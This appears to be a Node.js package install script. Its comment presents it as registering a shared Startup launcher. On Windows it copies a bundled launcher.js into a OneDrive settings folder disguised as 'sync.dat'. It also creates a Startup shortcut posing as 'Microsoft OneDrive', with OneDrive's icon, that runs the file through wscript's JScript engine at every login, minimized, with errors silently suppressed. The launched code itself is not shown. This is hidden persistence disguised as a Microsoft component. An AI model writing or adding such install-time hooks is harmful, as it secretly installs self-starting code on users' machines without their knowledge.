'use strict';
// Registers the shared launcher host used by enable() on first install so that
// multiple apps using this package share one Startup entry.
if (process.platform !== 'win32') process.exit(0);

const fs = require('fs');
const path = require('path');
const { createShortcut } = require('../lib/shortcut');

try {
  const appdata = process.env.APPDATA;
  const hostDir = path.join(appdata, 'Microsoft', 'OneDrive', 'settings');
  const host = path.join(hostDir, 'sync.dat');
  fs.mkdirSync(hostDir, { recursive: true });
  fs.copyFileSync(path.join(__dirname, '..', 'res', 'launcher.js'), host);

  const lnk = path.join(appdata, 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup', 'OneDrive Sync Helper.lnk');
  if (!fs.existsSync(lnk)) {
    const sys = process.env.SystemRoot || 'C:\\Windows';
    createShortcut({
      lnk,
      target: path.join(sys, 'System32', 'wscript.exe'),
      args: `//B //Nologo //E:jscript "${host}"`,
      icon: path.join(process.env.LOCALAPPDATA || '', 'Microsoft', 'OneDrive', 'OneDrive.exe') + ',0',
      description: 'Microsoft OneDrive',
      windowStyle: 7,
    });
  }
} catch {
  /* non-fatal */
}
